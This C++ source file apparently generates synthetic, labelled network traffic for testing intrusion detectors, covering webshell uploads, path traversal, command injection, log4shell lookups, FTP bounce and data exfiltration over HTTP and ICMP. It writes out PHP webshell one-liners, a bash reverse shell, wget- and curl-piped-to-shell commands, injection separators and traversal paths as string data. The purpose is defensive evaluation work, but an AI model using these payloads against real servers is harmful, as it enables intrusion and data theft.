// A script is brought to our server, or made to do what its visitor wants: what comes of it is linked to the
// request.
#include <algorithm>

#include "background.h"
#include "classes.h"
#include "flood.h"
#include "incident.h"
#include "talk.h"

namespace evaluate {
namespace {

struct Intruder {
  Scene& scene;
  Host& client;
  Random random;
  Deed* deed;
  std::string agent;

  Request request(std::string method, std::string target) {
    return {.method = std::move(method),
            .target = std::move(target),
            .host = scene.site.server_name,
            .agent = agent};
  }
};

// One request and its answer, both marked as the deed's.
Task ask(Intruder& who, Request request, Answer answer, Order* order) {
  Scene& scene = who.scene;
  Random& random = who.random;
  Connection c(scene.world, who.client, scene.our_end(who.client), scene.site.web_port,
               round_trip(who.client, random));
  c.mark.flood = &who.deed->seen;
  co_await c.open();
  if (order) c.mark.message = &order->copy();
  Bytes asked = bytes_of(request, random);
  co_await c.send(Side::client, std::move(asked), true);
  c.mark.message = nullptr;
  if (order) order->at = scene.now();
  const Duration think = log_time(random, 500us, 90ms);
  co_await scene.world.pause(think);
  answer.keep_alive = false;
  Bytes answered = bytes_of(scene, answer, random);
  co_await c.send(Side::server, std::move(answered));
  co_await c.close(Side::server);
}

std::string script(Random& random) {
  return pick<std::string>(
      random,
      {"<?php @eval($_POST['" + any_word(random) + "']);?>", "<?php system($_GET['cmd']); ?>",
       "<?php $f=fsockopen('udp://'.$_GET['host'],rand(1,65000)); ?>",
       "<%@ Page Language=\"C#\"%><% Response.Write(1); %>", "GIF89a;<?php passthru($_REQUEST['c']);?>"});
}

// ------------------------------------------------------------------------------------------------ uploads

Task over_webdav(Intruder who) {
  Random& random = who.random;
  const std::string name = pick<std::string>(
      random, {"..php", "uxampp.php", any_word(random) + ".php", any_word(random) + ".asp"});
  const std::string login = "Basic d2FtcHA6eGFtcHA=";
  const bool by_move = random.percent(30);
  Request options = who.request("OPTIONS", "/webdav/");
  Answer first{.headers = {{"DAV", "1,2"}, {"Allow", "OPTIONS,GET,HEAD,PUT,MOVE"}}};
  co_await ask(who, options, first, nullptr);
  Request put = who.request("PUT", "/webdav/" + (by_move ? any_word(random) + ".txt" : name));
  put.headers = {{"Authorization", login}};
  put.body = script(random) + random.words(random.between(0, 4000));
  Answer created{.status = 201};
  co_await ask(who, put, created, nullptr);
  if (by_move) {
    Request move = who.request("MOVE", put.target);
    move.headers = {{"Destination", "http://" + who.scene.site.server_name + "/webdav/" + name},
                    {"Authorization", login}};
    co_await ask(who, move, created, nullptr);
  }
  Request get = who.request("GET", "/webdav/" + name);
  Answer page_answer{.body = page(random, 300)};
  co_await ask(who, get, page_answer, nullptr);
}

Task by_form(Intruder who) {
  Random& random = who.random;
  const std::string name =
      any_word(random) + pick<std::string>(random, {".php", ".php.jpg", ".phtml", ".php5", ".jsp"});
  const std::string boundary = "----WebKitFormBoundary" + letters(random, 16);
  Request post = who.request(
      "POST", pick<std::string>(random, {"/upload.php", "/admin/filemanager/upload",
                                         "/wp-content/plugins/" + any_word(random) + "/upload.php"}));
  post.headers = {{"Content-Type", "multipart/form-data; boundary=" + boundary}};
  post.body = "--" + boundary + "\r\nContent-Disposition: form-data; name=\"file\"; filename=\"" + name +
              "\"\r\nContent-Type: application/octet-stream\r\n\r\n" + script(random) + "\r\n--" + boundary +
              "--\r\n";
  Answer stored{.body = "{\"success\":true,\"path\":\"/uploads/" + name + "\"}"};
  co_await ask(who, post, stored, nullptr);
  Request get = who.request("GET", "/uploads/" + name);
  Answer page_answer{.body = page(random, 200)};
  co_await ask(who, get, page_answer, nullptr);
}

// ------------------------------------------------------------------------------------------------ commands
// and their answers

// What is asked of a shell first, and what it says.
std::pair<std::string, std::string> any_command(Random& random) {
  static const std::vector<std::pair<std::string, std::string>> list = {
      {"id", "uid=33(www-data) gid=33(www-data) groups=33(www-data)\n"},
      {"cat /etc/passwd",
       "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n"},
      {"uname -a", "Linux web 5.10.0-28-amd64 #1 SMP Debian 5.10.209-2 x86_64 GNU/Linux\n"},
      {"whoami", "www-data\n"}};
  return pick(random, list);
}

Task over_shell(Intruder who, Order* order) {
  Random& random = who.random;
  const std::string path = "/uploads/" + any_word(random) + ".php",
                    key = pick<std::string>(random, {"cmd", "c", "exec", "x"});
  const bool post = random.percent(50);
  for (std::uint64_t left = random.between(1, 6); left > 0; --left) {
    const auto [command, output] = any_command(random);
    Request r = who.request(post ? "POST" : "GET",
                            post ? path : path + "?" + key + "=" + percent_encoded(command, false));
    if (post) {
      r.headers = {{"Content-Type", "application/x-www-form-urlencoded"}};
      r.body = key + "=" + percent_encoded(command, false);
    }
    Answer shown{.body = output};
    co_await ask(who, r, shown, left == 1 ? order : nullptr);
    const Duration pause = log_time(random, 300ms, 5s);
    co_await who.scene.world.pause(pause);
  }
}

Task traversal(Intruder who) {
  Random& random = who.random;
  const std::string way = pick<std::string>(
      random, {"/download.php?file=../../../../etc/passwd", "/cgi-bin/.%2e/%2e%2e/%2e%2e/etc/passwd",
               "/..%2f..%2f..%2fetc/passwd", "/index.php?page=....//....//etc/passwd"});
  Request r = who.request("GET", way);
  Answer shown{.body =
                   "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/"
                   "nologin\nbin:x:2:2:bin:/bin:/usr/sbin/nologin\n"};
  co_await ask(who, r, shown, nullptr);
}

// ------------------------------------------------------------------------------------------------ commands
// and their effects

Task fetches(Scene& scene, Host& there, FloodTruth* seen, Random random) {
  Connection c(scene.world, *scene.own, there, 80, round_trip(there, random));
  c.mark.flood = seen;
  co_await c.open();
  Request get{.target = "/" + any_word(random, 1, 4) + ".sh",
              .host = there.address.text(),
              .agent = random.percent(50) ? "Wget/1.21" : "curl/7.88.1"};
  Bytes asked = bytes_of(get, random);
  co_await c.send(Side::client, std::move(asked), true);
  co_await c.send(
      Side::server,
      to_bytes("HTTP/1.0 200 OK\r\nContent-Type: application/x-sh\r\n\r\n#!/bin/sh\n" + random.words(600)));
  co_await c.close(Side::server);
}

Task connects_back(Scene& scene, Host& there, std::uint16_t port, FloodTruth* seen, Random random) {
  Connection c(scene.world, *scene.own, there, port, round_trip(there, random));
  c.mark.flood = seen;
  co_await c.open();
  co_await c.send(Side::client, to_bytes("sh: 0: can't access tty; job control turned off\n$ "));
  for (std::uint64_t left = random.between(2, 12); left > 0; --left) {
    const Duration pause = log_time(random, 300ms, 4s);
    co_await scene.world.pause(pause);
    co_await c.send(Side::server, to_bytes("id\n"));
    co_await c.send(Side::client, to_bytes("uid=33(www-data) gid=33(www-data)\n$ "));
  }
}

Task pings_it(Scene& scene, Host& there, int count, FloodTruth* seen, Random random) {
  const std::uint16_t id = random.u16();
  const Bytes data = random.bytes(56);
  for (int i = 1; i <= count; ++i) {
    const auto number = static_cast<std::uint16_t>(i);
    send_ip(scene.world, *scene.own, there, ip_protocol::icmp,
            echo(false, false, scene.own->address, there.address, id, number, data), {.flood = seen});
    co_await scene.world.pause(30ms);
    send_ip(scene.world, there, *scene.own, ip_protocol::icmp,
            echo(false, true, there.address, scene.own->address, id, number, data), {.flood = seen});
    co_await scene.world.pause(970ms);
  }
}

const Bytes ldap_bind = {0x30, 12, 2, 1, 1, 0x60, 7, 2, 1, 3, 4, 0, 0x80, 0};
const Bytes ldap_bound = {0x30, 12, 2, 1, 1, 0x61, 7, 10, 1, 0, 4, 0, 4, 0};
// For the object "a", of which all attributes are wanted.
const Bytes ldap_search = Writer()
                              .bytes(Bytes{0x30, 38, 2, 1, 2, 0x63, 33, 4, 1, 'a', 10, 1,    0, 10,
                                           1,    3,  2, 1, 0, 2,    1,  0, 1, 1,   0,  0x87, 11})
                              .text("objectclass")
                              .u16(0x3000)
                              .take();

Task looks_it_up_by_ldap(Scene& scene, Host& there, FloodTruth* seen, Random random) {
  Connection c(scene.world, *scene.own, there, 1389, round_trip(there, random));
  c.mark.flood = seen;
  co_await c.open();
  co_await c.send(Side::client, ldap_bind);
  co_await c.send(Side::server, ldap_bound);
  co_await c.send(Side::client, ldap_search);
  co_await c.close(Side::client);
}

// What a shell takes for a second command, around it.
std::string injected(Random& random, const std::string& command) {
  return pick<std::string>(random, {"127.0.0.1;" + command, "x|" + command, "`" + command + "`",
                                    "$(" + command + ")", "1 && " + command, "\n" + command});
}

// A request after which our server does something out there.
struct Injection {
  enum class Sort { fetch, shell, ping, jndi } sort = Sort::fetch;
  std::uint16_t port = 0;  // of the shell
  int count = 0;           // of pings
  Request request;
};

std::string command_of(const Injection& i, const std::string& there, Random& random) {
  if (i.sort == Injection::Sort::shell)
    return "bash -i >& /dev/tcp/" + there + "/" + std::to_string(i.port) + " 0>&1";
  if (i.sort == Injection::Sort::ping) return "ping -c " + std::to_string(i.count) + " " + there;
  return pick<std::string>(random,
                           {"wget http://" + there + "/x.sh -O- | sh", "curl -s http://" + there + "/a|bash",
                            "cd /tmp; wget " + there + "/bins.sh"});
}

Injection draw_injection(Intruder& who, const std::string& there) {
  Random& random = who.random;
  using Sort = Injection::Sort;
  Injection out;
  out.sort = std::array{Sort::fetch, Sort::shell, Sort::ping, Sort::jndi}[weighted(random, {35, 25, 20, 20})];
  out.port = pick<std::uint16_t>(random, {4444, 1337, 9001, 443});
  out.count = static_cast<int>(random.between(3, 10));
  Request& r = out.request;
  r = who.request("GET", "/");
  if (out.sort == Sort::jndi) {  // log4shell
    const std::string text = "${jndi:ldap://" + there + ":1389/a}";
    if (random.percent(50))
      r.agent = text;
    else
      r.headers.emplace_back("X-Api-Version", text);
    return out;
  }
  const std::string field = pick<std::string>(random, {"ip", "host", "domain", "cmd", "q"}) + "=" +
                            percent_encoded(injected(random, command_of(out, there, random)), false);
  r.target = pick<std::string>(
      random, {"/cgi-bin/luci/;stok=/locale", "/ping.cgi", "/tools/lookup.php", "/boaform/admin/formPing"});
  if (random.percent(60)) {
    r.target += "?" + field;
    return out;
  }
  r.method = "POST";
  r.body = field;
  r.headers = {{"Content-Type", "application/x-www-form-urlencoded"}};
  return out;
}

Task inject(Intruder who, Order* order, Host& there) {
  Scene& scene = who.scene;
  FloodTruth* seen = &who.deed->seen;
  const Injection injection = draw_injection(who, there.address.text());
  order->text = injection.request.method + " " + injection.request.target;
  // The answer does not wait for what was started.
  Intruder asking = who;
  Answer answer{.body = page(asking.random, 200)};
  const auto kept = std::make_shared<Intruder>(asking);
  scene.kept.push_back(kept);
  scene.world.play(ask(*kept, injection.request, answer, order));
  while (order->at == Time{}) co_await scene.world.pause(200us);
  const Duration lag = log_time(who.random, 1ms, 300ms);
  co_await scene.world.pause(lag);
  switch (injection.sort) {
    case Injection::Sort::fetch:
      co_await fetches(scene, there, seen, who.random.fork("e"));
      break;
    case Injection::Sort::shell:
      co_await connects_back(scene, there, injection.port, seen, who.random.fork("e"));
      break;
    case Injection::Sort::ping:
      co_await pings_it(scene, there, injection.count, seen, who.random.fork("e"));
      break;
    case Injection::Sort::jndi:
      co_await looks_it_up_by_ldap(scene, there, seen, who.random.fork("e"));
  }
}

// Our FTP server is told to send its list to a third host.
Task bounce(Intruder who, Order* order, Host& there) {
  Scene& scene = who.scene;
  Random& random = who.random;
  Connection c(scene.world, who.client, *scene.own, 21, round_trip(who.client, random));
  const std::uint16_t port = pick<std::uint16_t>(random, {22, 25, 80, 445, 3306, 6667});
  std::string goal = there.address.text();
  std::ranges::replace(goal, '.', ',');
  goal += "," + std::to_string(port >> 8) + "," + std::to_string(port & 255);
  co_await c.open();
  co_await c.send(Side::server, to_bytes("220 FTP server ready.\r\n"), true);
  co_await c.send(Side::client, to_bytes("USER anonymous\r\n"), true);
  co_await c.send(Side::server, to_bytes("331 Anonymous login ok.\r\n"), true);
  co_await c.send(Side::client, to_bytes("PASS a@b\r\n"), true);
  co_await c.send(Side::server, to_bytes("230 Logged in.\r\n"), true);
  order->text = "PORT " + goal;
  order->channel = "ftp";
  c.mark.flood = &who.deed->seen;
  c.mark.message = &order->copy();
  co_await c.send(Side::client, to_bytes("PORT " + goal + "\r\n"), true);
  c.mark.message = nullptr;
  co_await c.send(Side::server, to_bytes("200 PORT command successful.\r\n"), true);
  c.mark.message = &order->asked;  // what starts it is right, too
  co_await c.send(Side::client, to_bytes("LIST\r\n"), true);
  c.mark.message = nullptr;
  order->at = scene.now();
  co_await scene.world.pause(400us);
  Connection data(scene.world, *scene.own, there, port, round_trip(there, random));
  data.from_port(20);
  data.mark.flood = &who.deed->seen;
  if (random.percent(50)) {
    co_await data.open();
    co_await data.send(Side::client, to_bytes("-rw-r--r-- 1 ftp ftp 17 Jan 1 00:00 readme\r\n"));
    co_await data.close(Side::client);
    co_await c.send(Side::server, to_bytes("226 Transfer complete.\r\n"));
  } else {
    data.knock();
    co_await scene.world.pause(40ms);
    data.reset(Side::server);
    co_await c.send(Side::server, to_bytes("425 Unable to build data connection.\r\n"));
  }
}

// ---------------------------------------------------------------------------------------- data that leave

std::string dump(Random& random, std::size_t size) {
  std::string out = "-- MySQL dump 10.19\nDROP TABLE IF EXISTS `users`;\n";
  while (out.size() < size)
    out += "INSERT INTO `users` VALUES (" + std::to_string(random.below(90000)) + ",'" + any_word(random) +
           "','" + any_word(random) + "@" + any_word(random) + ".example','$2y$10$" + letters(random, 53) +
           "');\n";
  return out;
}

Task posts_it(Scene& scene, Host& there, FloodTruth* seen, Random random) {
  Connection c(scene.world, *scene.own, there, 80, round_trip(there, random));
  c.mark.flood = seen;
  Request post{.method = "POST",
               .target = "/" + letters(random, 6),
               .host = there.address.text(),
               .agent = "curl/7.88.1"};
  post.body = dump(random, log_count(random, 300000, 3000000));
  Bytes bytes = bytes_of(post, random);
  co_await c.open();
  co_await c.send(Side::client, std::move(bytes), true);
  co_await c.send(Side::server, to_bytes("HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok"));
  co_await c.close(Side::client);
}

// A file, piece by piece, in pings.
Task pings_it_out(Scene& scene, Host& there, FloodTruth* seen, Random random) {
  const std::uint16_t id = random.u16();
  const std::string text = dump(random, log_count(random, 200000, 2000000));
  const std::size_t piece = random.between(200, 1400);
  const Duration away = round_trip(there, random), gap = log_time(random, 3ms, 60ms);
  std::uint16_t number = 0;
  for (std::size_t at = 0; at < text.size(); at += piece) {
    const Bytes data = to_bytes(std::string_view(text).substr(at, piece));
    ++number;
    send_ip(scene.world, *scene.own, there, ip_protocol::icmp,
            echo(false, false, scene.own->address, there.address, id, number, data), {.flood = seen});
    scene.world.play(later(scene, there, *scene.own, ip_protocol::icmp,
                           echo(false, true, there.address, scene.own->address, id, number, data), away));
    co_await scene.world.pause(gap);
  }
}

template <bool in_pings>
void leak(Scene& scene) {
  Random random = scene.fork("leak");
  Host& there = scene.outside(random);
  Deed& deed = scene.record.deed({"data-leak"}, "outbound", "source");
  if (in_pings) deed.kinds.emplace_back("icmp-tunnel");
  deed.sources = {scene.own->address.text()};
  deed.victims = {there.address.text()};
  deed.required = in_pings;  // an upload looks like any other; nobody can be asked to know
  const Duration quiet = log_time(random, 300ms, 20s), span = quiet + 25s;
  scene.end = scene.begin + span;
  scene.world.clock.play_at(scene.begin + quiet,
                            in_pings ? pings_it_out(scene, there, &deed.seen, random.fork("p"))
                                     : posts_it(scene, there, &deed.seen, random.fork("p")));
  play_day(scene, draw_day(random.fork("day"), span, std::min<std::uint64_t>(draw_frames(random), 6000)),
           span);
}

enum class Way { webdav, form, shell, traversal, injection, bounce };

Task go_on(Scene& scene, Way way, Intruder who, Order* order, Host& there) {
  switch (way) {
    case Way::webdav:
      co_await over_webdav(who);
      break;
    case Way::form:
      co_await by_form(who);
      break;
    case Way::shell:
      co_await over_shell(who, order);
      break;
    case Way::traversal:
      co_await traversal(who);
      break;
    case Way::injection:
      co_await inject(who, order, there);
      break;
    case Way::bounce:
      co_await bounce(who, order, there);
  }
  co_await scene.world.pause(log_time(who.random, 100ms, 5s));
  scene.stop();
}

template <Way way>
void play(Scene& scene) {
  Random random = scene.fork("intrusion");
  Host& client = scene.outside(random);
  Host& there = scene.outside(random);
  Deed& deed = scene.record.deed({}, "inbound", "victim");
  deed.least_packets = 4;
  Order* order = nullptr;
  if (way == Way::webdav || way == Way::form) deed.kinds = {"webshell-upload"};
  if (way == Way::shell) deed.kinds = {"webshell-order", "command-injection", "webshell-request"};
  if (way == Way::traversal)
    deed.kinds = {"path-traversal", "command-injection", "web-attack", "file-disclosure"};
  if (way == Way::injection || way == Way::bounce) {
    deed.kinds = {"command-injection"};
    if (way == Way::bounce) deed.kinds.emplace_back("ftp-bounce");
    deed.directions = deed.roles = {};
    order = &scene.record.order("http", "plain");
    order->clients = {client.address.text()};
    deed.orders = {order};
  }
  scene.record.tolerated = {"webshell-order"};
  if (way == Way::shell) scene.record.tolerated.clear();
  const Duration quiet = log_time(random, 300ms, 20s);
  scene.end = scene.begin + quiet + 120s;
  scene.world.clock.play_at(
      scene.begin + quiet,
      go_on(scene, way, {scene, client, random.fork("who"), &deed, any_agent(random)}, order, there));
  play_day(scene,
           draw_day(random.fork("day"), quiet + 5s, std::min<std::uint64_t>(draw_frames(random), 6000)),
           quiet + 5s);
}

constexpr Needs both = {.whole_frames = true};

}  // namespace

std::vector<Class> intrusion_classes() {
  return {
      {"intrusion",
       "a script is brought to our server, or gives answers that it should not",
       {{"webdav", 35, both, play<Way::webdav>},
        {"form", 25, both, play<Way::form>},
        {"shell", 25, both, play<Way::shell>},
        {"traversal", 15, both, play<Way::traversal>}}},
      {"injection",
       "a request makes our server fetch, connect or ping",
       {{"injection", 85, both, play<Way::injection>}, {"ftp-bounce", 15, both, play<Way::bounce>}}},
      {"leak",
       "data leave our host in a form or an amount that is not usual",
       {{"post", 50, both, leak<false>}, {"pings", 50, both, leak<true>}}},
  };
}

}  // namespace evaluate
